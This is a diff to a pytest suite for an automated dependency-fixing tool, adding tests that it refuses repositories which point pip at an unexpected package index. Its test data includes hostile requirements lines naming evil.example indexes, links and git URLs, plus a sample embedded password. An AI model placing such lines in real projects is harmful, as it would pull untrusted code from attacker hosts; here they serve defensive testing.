@@ -1,10 +1,11 @@
 """Hostile repositories: files that lead elsewhere, names that are commands, lock files as bombs."""
 
+import re
 import shlex
 
 import pytest
 
-from agents.pipelines.remediate.ladder import Refusal, Unfit, climb, ecosystem_of
+from agents.pipelines.remediate.ladder import Fix, Refusal, Unfit, climb, ecosystem_of
 from agents.pipelines.remediate.ladder.python.index import objection
 from agents.pipelines.remediate.ladder.python.pip import Pip
 from agents.pipelines.remediate.ladder.python.pip_compile import head_of
@@ -63,7 +64,6 @@ async def test_a_requirements_file_leads_nowhere_else(tree, line):
 @pytest.mark.parametrize(
     "line",
     [
-        "--index-url https://evil.example/simple", "-i https://evil.example/simple",
         "--extra-index-url=https://u:hunter22@evil.example/simple",
         "--find-links https://evil.example/", "evil @ https://evil.example/evil-1.0.tar.gz",
         "-e git+https://evil.example/x.git#egg=x", "-e ../sibling", "./local/path",
@@ -88,6 +88,76 @@ async def test_no_option_of_a_requirements_file_reaches_pip(tree, line):
         word for word in ("evil.example", "sibling", "local/path", "passwd") if word in seen
     ]
     assert "hunter22" not in str(fix)
+
+
+CONFIGURED = "https://near.example/simple\nglobal.extra-index-url='https://also.example/x'\n"
+
+
+class Configured(Answers):
+    """pip with an index of its own; `asked` says for what it was asked."""
+
+    asked = False
+
+    def __call__(self, tree, script):
+        if "pip config list" in script:
+            return 0, CONFIGURED + "defaulthttps://usual.example/simple\n"
+        self.asked |= "pip index" in script
+        return super().__call__(tree, script)
+
+
+@pytest.mark.parametrize(
+    ("files", "manifest"),
+    [
+        ({"requirements.txt": "-i https://u:hunter22@mine.example/x\nsqlparse==0.4.4\n"}, ""),
+        ({"requirements.txt": "--index-url=https://mine.example/x\nsqlparse==0.4.4\n"}, ""),
+        (
+            {"requirements.txt": "-r a.in\nsqlparse==0.4.4\n", "a.in": "-i https://mine.example/"},
+            "",
+        ),
+        (
+            {
+                "pyproject.toml": '[project]\nname = "shop"\ndependencies = ["sqlparse==0.4.4"]\n'
+                '[[tool.uv.index]]\nname = "mine"\nurl = "https://mine.example/x"\ndefault = true\n'
+            },
+            "pyproject.toml",
+        ),
+        (
+            {
+                "poetry.lock": '[[package]]\nname = "sqlparse"\nversion = "0.4.4"\nfiles = []\n'
+                '[package.source]\ntype = "legacy"\nurl = "https://mine.example/x"\n'
+                '[metadata]\nlock-version = "2.1"\n',
+                "pyproject.toml": PROJECT,
+            },
+            "poetry.lock",
+        ),
+        (
+            {
+                "uv.lock": UV.format(name="sqlparse", version="0.4.4", hash=CONTENT),
+                "pyproject.toml": PROJECT
+                + '[[tool.uv.index]]\nname = "mine"\nurl = "https://index.example/simple"\n',
+            },
+            "uv.lock",
+        ),
+    ],
+)
+async def test_no_other_index_is_asked_than_the_one_that_the_repository_names(
+    tree, files, manifest
+):
+    """Anybody could offer something else under a private name on a public one."""
+    tree.answers = Configured()
+    about = group("sqlparse", "< 0.5.0", manifests=[manifest or "requirements.txt"])
+    refusal = await refuse_climb(tree, files, about)
+    assert (refusal.cause, refusal.steps) == ("other_index", ())
+    assert re.search(r"takes sqlparse from (mine|index)\.example, and ", refusal.reason)
+    assert "hunter22" not in str(refusal)
+    assert not tree.answers.asked
+
+
+@pytest.mark.parametrize("place", ["near", "also", "usual"])
+async def test_an_index_that_pip_is_configured_for_may_be_named(tree, place):
+    tree.lay({"requirements.txt": f"-i https://{place}.example/simple\nsqlparse==0.4.4\n"})
+    tree.answers = Configured()
+    assert isinstance(await climb(tree, ecosystem_of(tree.paths, ALERTS), ALERTS, TERMS), Fix)
 
 
 @pytest.mark.parametrize(
